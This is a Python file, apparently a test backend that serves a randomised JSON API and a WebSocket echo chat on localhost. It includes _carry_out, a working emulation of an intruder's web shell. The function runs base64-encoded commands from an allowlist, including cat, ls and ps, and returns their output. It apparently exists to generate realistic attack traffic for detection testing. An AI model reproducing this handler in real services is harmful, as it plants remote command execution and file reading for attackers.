"""The application behind the web servers: a small JSON API on one port, a chat over WebSocket on another."""

from __future__ import annotations

import asyncio
import base64
import json
import random
import subprocess
import sys
import threading
import time
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import websockets

ROOT = Path(sys.argv[3]) if len(sys.argv) > 3 else Path("/nonexistent")  # of all sites' files


class Api(BaseHTTPRequestHandler):
    """Answers that vary in size and now and then in status, as an application's do."""

    protocol_version = "HTTP/1.1"

    def _answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        asked = self.rfile.read(length)
        time.sleep(random.expovariate(50))
        if self.command == "POST" and self.path.startswith("/api/files/") and self._is_there():
            self._say(200, _carry_out(asked), "text/html")
            return
        items = [
            {"id": random.randrange(10**6), "name": f"item {n}", "ok": True}
            for n in range(random.randrange(1, 20))
        ]
        body = json.dumps({"path": self.path, "items": items}).encode()
        status = random.choices((200, 204, 404, 500), (94, 3, 2, 1))[0] if length == 0 else 201
        self._say(status, body, "application/json")

    def _say(self, status: int, body: bytes, kind: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _is_there(self) -> bool:
        """Whether a script of this name was left among the files that visitors may send."""
        site = self.headers.get("X-Site", "").replace("/", "")
        return (ROOT / site / "files" / Path(self.path).name).is_file()

    do_GET = do_POST = do_PUT = do_DELETE = _answer

    def log_message(self, format: str, *args: Any) -> None:
        """The web server in front keeps the log."""


def _carry_out(form: bytes) -> bytes:
    """A web shell as intruders leave them: an order in base64, its output as the answer. Looking only."""
    fields = parse_qs(form.decode("latin-1"))
    with suppress(ValueError, OSError, subprocess.TimeoutExpired):
        order = base64.b64decode(fields.get("z0", [""])[0]).decode().split()
        if order and order[0] in ("id", "uname", "ls", "cat", "ps", "ip", "df"):
            return subprocess.run(order, capture_output=True, check=False, timeout=10).stdout[: 1 << 20]
    return b"->|ERROR|<-"


async def chat(socket: Any) -> None:
    """Everything said comes back, and sometimes somebody else says something."""
    async for message in socket:
        await socket.send(message)
        if random.random() < 0.3:
            await asyncio.sleep(random.random())
            await socket.send("word " * random.randrange(1, 60))


async def _serve(port: int) -> None:
    async with websockets.serve(chat, "127.0.0.1", port):
        await asyncio.Future()


if __name__ == "__main__":
    web = ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Api)
    threading.Thread(target=web.serve_forever, daemon=True).start()
    asyncio.run(_serve(int(sys.argv[2])))
